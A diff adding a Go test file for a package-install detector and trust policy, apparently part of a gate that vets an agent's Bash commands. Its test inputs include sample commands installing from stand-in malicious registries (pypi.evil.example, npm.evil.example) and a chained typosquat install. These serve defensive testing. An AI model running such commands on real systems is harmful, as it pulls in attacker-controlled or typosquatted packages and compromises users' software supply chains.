@@ -0,0 +1,90 @@
+package chain
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestDetectPackageInstall(t *testing.T) {
+	cases := []struct {
+		cmd      string
+		manager  string
+		packages string
+		sources  string
+	}{
+		{"npm install react@18 @types/node@20 --save-dev", "npm", "react,@types/node", ""},
+		{"cd web && pnpm add left-pad", "pnpm", "left-pad", ""},
+		{"sudo pip3 install 'requests[socks]>=2.31' -r requirements.txt", "pip", "requests", ""},
+		{"python3 -m pip install --index-url https://pypi.evil.example/simple colorama", "pip", "colorama", "https://pypi.evil.example/simple"},
+		{"go get golang.org/x/tools@latest", "go", "golang.org/x/tools", ""},
+		{"go install ./cmd/kavach", "go", "", ""},
+		{"npm i git+https://github.com/someone/pkg.git", "npm", "", "git+https://github.com/someone/pkg.git"},
+		{"npm install", "npm", "", ""},
+		{"npm test", "", "", ""},
+	}
+	for _, tc := range cases {
+		installs := detectPackageInstalls(tc.cmd)
+		if tc.manager == "" {
+			if len(installs) != 0 {
+				t.Errorf("%q: expected no install, got %+v", tc.cmd, installs)
+			}
+			continue
+		}
+		if len(installs) != 1 {
+			t.Errorf("%q: expected one install, got %+v", tc.cmd, installs)
+			continue
+		}
+		if pi := installs[0]; pi.Manager != tc.manager || strings.Join(pi.Packages, ",") != tc.packages || strings.Join(pi.Sources, ",") != tc.sources {
+			t.Errorf("%q: got %+v", tc.cmd, pi)
+		}
+	}
+
+	// Every segment's install is reported, not just the first
+	installs := detectPackageInstalls("npm i ok && pip install requests; npm i typosquat")
+	var got []string
+	for _, pi := range installs {
+		got = append(got, pi.Manager+":"+strings.Join(pi.Packages, ","))
+	}
+	if want := "npm:ok pip:requests npm:typosquat"; strings.Join(got, " ") != want {
+		t.Errorf("multi-segment installs = %q, want %q", got, want)
+	}
+}
+
+func TestPackagePolicy(t *testing.T) {
+	run := func(command string, p PackagePolicy) VerificationResult {
+		r := NewRunner("sess_test", WithStateDir(""), WithPackagePolicy(p))
+		state := r.RunFull("add dependency", "Bash", map[string]interface{}{"command": command}, true)
+		for _, res := range state.Results {
+			if res.Gate == "AEGIS" {
+				return res
+			}
+		}
+		t.Fatal("no AEGIS result")
+		return VerificationResult{}
+	}
+	trusted := []string{"react", "@types/*", "go:golang.org/x/*"}
+
+	if res := run("npm install react @types/node", PackagePolicy{Trusted: trusted}); res.Status != "pass" {
+		t.Errorf("trusted npm install: status = %s (%s)", res.Status, res.Reason)
+	}
+	if res := run("go get golang.org/x/tools", PackagePolicy{Trusted: trusted}); res.Status != "pass" {
+		t.Errorf("trusted go get: status = %s (%s)", res.Status, res.Reason)
+	}
+	res := run("npm install react reakt", PackagePolicy{Trusted: trusted})
+	if res.Status != "warn" || res.Context["untrusted_packages"] != "reakt" || res.Source != SourceConfig {
+		t.Errorf("untrusted npm install: %+v", res)
+	}
+	// Manager-scoped entries don't leak across managers
+	if res := run("pip install golang.org/x/tools", PackagePolicy{Trusted: trusted, Action: "ask"}); res.Status != "ask" {
+		t.Errorf("scoped entry: status = %s, want ask", res.Status)
+	}
+	// A trusted install does not hide an untrusted one later in the command
+	res = run("npm i ok && npm i typosquat", PackagePolicy{Trusted: []string{"ok"}, Action: "ask"})
+	if res.Status != "ask" || res.Context["untrusted_packages"] != "typosquat" {
+		t.Errorf("second install: %+v", res)
+	}
+	// Custom registries are never trusted
+	if res := run("npm install react --registry https://npm.evil.example", PackagePolicy{Trusted: trusted, Action: "block"}); res.Status != "block" {
+		t.Errorf("custom registry: status = %s, want block", res.Status)
+	}
+}